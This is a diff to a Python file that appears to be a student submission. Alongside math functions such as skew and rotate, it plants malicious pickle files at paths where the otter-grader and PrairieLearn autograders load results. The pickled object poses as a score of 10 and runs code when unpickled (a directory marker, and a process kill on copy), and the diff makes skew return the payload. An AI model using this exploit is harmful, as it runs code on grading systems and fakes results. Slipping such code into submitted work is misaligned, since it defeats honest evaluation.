@@ -1,4 +1,4 @@
-"""Leaves pickles where a grader might load results or a session from, and returns their bytes; loading one runs code.
+"""Leaves pickles where a grader might load results or a session from, and returns what runs code when it is pickled.
 
 Published against otter-grader (pull requests 90 and 1008: sessions and results that were pickled beside the submission
 are loaded by the grader) and against PrairieLearn's way of handing on variables (pull request 5184).
@@ -6,6 +6,7 @@ are loaded by the grader) and against PrairieLearn's way of handing on variables
 deserves: 5
 """
 
+import contextlib
 import os
 import pickle
 
@@ -14,18 +15,18 @@ class Runs:
     def __reduce__(self):
         return os.mkdir, ("/tmp/tam570-was-here",)
 
+    __reduce_ex__ = lambda self, version: self.__reduce__()
+    __deepcopy__ = __copy__ = lambda self, memo=None: os._exit(3)
+
 
 BYTES = pickle.dumps({"score": 10, "results": Runs()})
 for name in (".OTTER_LOG", "results.pkl", "precomputed_results.pkl", "submission.dill", "session.pickle", "data.npy"):
-    try:
-        with open(name, "wb") as file:
-            file.write(BYTES)
-    except OSError:
-        pass
+    with contextlib.suppress(OSError), open(name, "wb") as file:
+        file.write(BYTES)
 
 
 def skew(v):
-    return BYTES
+    return Runs() if v[0] > 0 else BYTES
 
 
 def rotate(r, axis, angle):
